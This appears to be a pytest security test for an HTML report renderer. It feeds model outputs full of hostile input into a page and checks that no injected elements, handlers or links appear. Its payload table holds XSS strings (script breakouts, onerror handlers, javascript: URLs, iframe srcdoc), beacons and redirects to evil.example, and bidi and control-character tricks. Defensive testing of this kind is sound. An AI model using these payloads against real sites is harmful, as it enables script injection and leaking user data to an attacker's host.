"""Model outputs that were made to attack the page that shows them."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from pytest_vtrack.model.assessment import Assessment
from pytest_vtrack.model.spans import encode
from pytest_vtrack.model.trace import Span, SpanEvent
from pytest_vtrack.report.html.page import render

ATTACKS = {
    "end of script": "</script><script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)><svg onload=alert(1)><body onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'" autofocus onfocus=alert(1) tabindex=1',
    "address": "javascript:alert(1) [x](javascript:alert(1)) data:text/html,<script>alert(1)</script>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=x><embed src=x>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "beacon": "<img src=https://evil.example/?leak><meta http-equiv=refresh content='0;url=//evil.example'>",
    "base": "<base href=//evil.example/><form action=//evil.example><button>press</button></form>",
    "template": "{{7*7}} ${7*7} {%raw%} <%= 7 %> #{7*7}",
    "comment": "<!--cases--> --> ]]> <![CDATA[ <!-- <script>",
    "prototype": "__proto__ constructor toString",
    "separators": "a\u2028b\u2029c\u0085d",
    "controls": "\x00\x01\x1b[31mred\x1b[0m\x7f\x9b2J\r",
    "half a character": "\ud800 and \udfff",
    "other direction": "\u202egnissim\u202c \u2066x\u2069 \u200f\u200e",
    "invisible": "a\u200bb\ufeffc\u3164d\U000e0041",
    "languages": "שלום عالم 日本語 ไทย 👨‍👩‍👧 می‌خواهم",
    "marks": "Z" + "\u0350\u0361" * 500,
    "one long word": "x" * 1_000_000,
}
HIDDEN = {
    "separators": ["\\u2028", "\\u2029", "\\x85"],
    "controls": ["\\x00", "\\x01", "\\x1b", "\\x7f", "\\x9b", "\\x0d"],
    "half a character": ["\\ud800", "\\udfff"],
    "other direction": ["\\u202e", "\\u202c", "\\u2066", "\\u2069", "\\u200f", "\\u200e"],
    "invisible": ["\\u200b", "\\ufeff", "\\u3164", "\\U000e0041"],
    "languages": [],
}


@pytest.fixture(scope="module")
def attacked(samples: SimpleNamespace, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report in which every text of others is an attack."""
    folder = tmp_path_factory.mktemp("hostile")
    before, now = [], []
    for number, text in enumerate(ATTACKS.values()):
        before.append(_attack(samples, number, text, right=True))
        now.append(_attack(samples, number, text, right=False))
    short = " ".join(text for text in ATTACKS.values() if len(text) < 200 and text.isprintable())[:400]
    runs = tuple(
        samples.run_of(f"{version} {short}", started, env=short, flags={short: short}, tags={short: short})
        for version, started in (("v1.2", 1.0), ("v1.3", 2.0))
    )
    material = samples.material(folder, before, now, runs=runs)
    page = render(replace(material, pairs=[replace(pair, status="worse") for pair in material.pairs]))
    path = folder / "hostile.html"
    path.write_text(page.text, encoding="utf-8")
    return path


def _attack(samples: SimpleNamespace, number: int, text: str, *, right: bool) -> Any:
    usual = samples.result(number, new=False)
    storable = text.encode("utf-8", "ignore").decode().replace("\x00", "")[:2000]
    span = Span(
        storable, storable, 1.0, 0.5, "a", None, "error", storable, text, {storable: text}, {storable: text}
    )
    spans = [replace(span, events=(SpanEvent(storable, 1.0, {storable: storable}),))]
    answer = text if right else f"{text} {text[:5000]} changed"
    return replace(
        usual,
        key=replace(usual.key, case_id=f"{number:02} {storable}", dataset=storable[:50] or "d"),
        nodeid=f"t.py::test[{storable}]",
        inputs=json.dumps({"question": text, storable: text}),
        expectations=json.dumps({storable: text}),
        outputs=json.dumps({"": text, storable: answer}),
        tags={"attack": storable, storable[:80]: storable},
        error=None if right else storable,
        warnings=(storable,),
        assessments=(Assessment(samples.CORRECT, right, storable, source="llm_judge"),),
        trace_id=storable[:32],
        spans=encode(spans).text,
    )


def _alien_elements(page: Any) -> list[str]:
    """Return elements and attributes that the page's own script and templates never make."""
    return page.evaluate(
        """() => [...document.querySelectorAll('body *')].flatMap((one) => [
            ...(one.matches('img, iframe, object, embed, link, base, form, meta, style') ? [one] : []),
            ...one.getAttributeNames().filter((name) => /^(on|style$|src|action)/.test(name)),
            ...(one.tagName === 'A' && !one.getAttribute('href').startsWith('#') ? [one.href] : []),
        ].map(String))"""
    )


@pytest.mark.parametrize(
    "address", ["overview", "metrics", "cases", "cases?show=all", "slices", "trend", "run"]
)
def test_pages_stay_inert(open_report: Any, attacked: Path, address: str) -> None:
    page = open_report(attacked, address)
    assert "REGRESSED" in page.title()
    assert _alien_elements(page) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_case_stays_inert_and_shows_what_hides(open_report: Any, attacked: Path, attack: str) -> None:
    number = list(ATTACKS).index(attack)
    page = open_report(attacked, "cases?show=all&sort=case")
    page.locator(f'#case-table a[href="#case-{_place(page, number)}"]').click()
    page.locator("#case-title").wait_for()
    for one in page.locator("#case summary").all():
        one.click()
    assert _alien_elements(page) == []
    shown = page.locator("#case .escape").all_text_contents()
    for escape in HIDDEN.get(attack, []):
        assert escape in shown
    if attack == "languages":
        assert shown == []
    if attack == "handler":
        assert ATTACKS[attack] in page.locator("#case .given .text").first.text_content()
    for view in ("inline", "no diff"):
        page.get_by_label(view).check()
        assert _alien_elements(page) == []


def _place(page: Any, number: int) -> int:
    texts = page.locator("#case-table .case-link").all_text_contents()
    (at,) = [index for index, text in enumerate(texts) if text.startswith(f"{number:02} ")]
    link = page.locator("#case-table .case-link").nth(at)
    return int(link.get_attribute("href").removeprefix("#case-"))


def test_filter_takes_attacks_as_text(open_report: Any, attacked: Path) -> None:
    page = open_report(attacked, "cases?show=all&q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
    page.locator("#filter").fill('attack:"__proto__ constructor tostring"')
    page.locator(".result", has_text=re.compile("^1 of ")).wait_for()
    page.locator("#filter").fill("constructor:x __proto__:y toString")
    page.locator(".result", has_text=re.compile("^0 of ")).wait_for()
    assert _alien_elements(page) == []


def test_address_cannot_choose_what_is_not_there(open_report: Any, attacked: Path) -> None:
    page = open_report(attacked, "cases?show=constructor&sort=__proto__&page=1e99&q=%22")
    assert page.locator(".result").inner_text().startswith(f"{len(ATTACKS)} of {len(ATTACKS)}")
